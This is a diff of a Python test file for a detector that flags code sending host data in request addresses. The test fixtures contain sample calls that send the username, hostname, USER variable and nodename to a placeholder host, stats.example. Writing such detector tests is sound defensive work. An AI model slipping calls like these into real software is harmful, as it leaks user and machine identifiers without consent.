@@ -77,12 +77,25 @@ def test_exfiltration_host_data_files_uploaded_with_curl_and_wallets_sent():
 
 def test_exfiltration_host_data_in_the_address_of_a_request():
     source = """
-    import getpass, os, requests, urllib.request
+    import getpass, os, requests, socket, urllib.request
     requests.get(f'https://stats.example/i?u={getpass.getuser()}')
-    urllib.request.urlopen('https://stats.example/install?cwd=' + os.getcwd())
-    conn.request('GET', '/install?cwd=' + os.getcwd())
+    urllib.request.urlopen('https://stats.example/install?h=' + socket.gethostname())
+    conn.request('GET', '/install?u=' + os.environ['USER'])
+    session = requests.Session()
+    session.get('https://stats.example/i?n=' + os.uname().nodename)
     """
-    assert _lines(source) == [3, 4, 5]
+    assert _lines(source) == [3, 4, 5, 7]
+
+
+def test_a_dict_get_with_the_working_directory_or_the_machine_architecture_is_quiet():
+    source = """
+    import os, platform, requests
+    root = Path(config.get('directory', os.getcwd())).resolve()
+    abi = mach_map.get(os.uname()[4] + '-64', 'libc6')
+    channel.send(dict(cwd=os.getcwd(), pid=os.getpid()))
+    requests.get(f'https://downloads.example/tool-{platform.uname().machine}-{os.uname().sysname}.tar.gz')
+    """
+    assert _lines(source) == []
 
 
 def test_an_address_built_from_configuration_is_quiet():
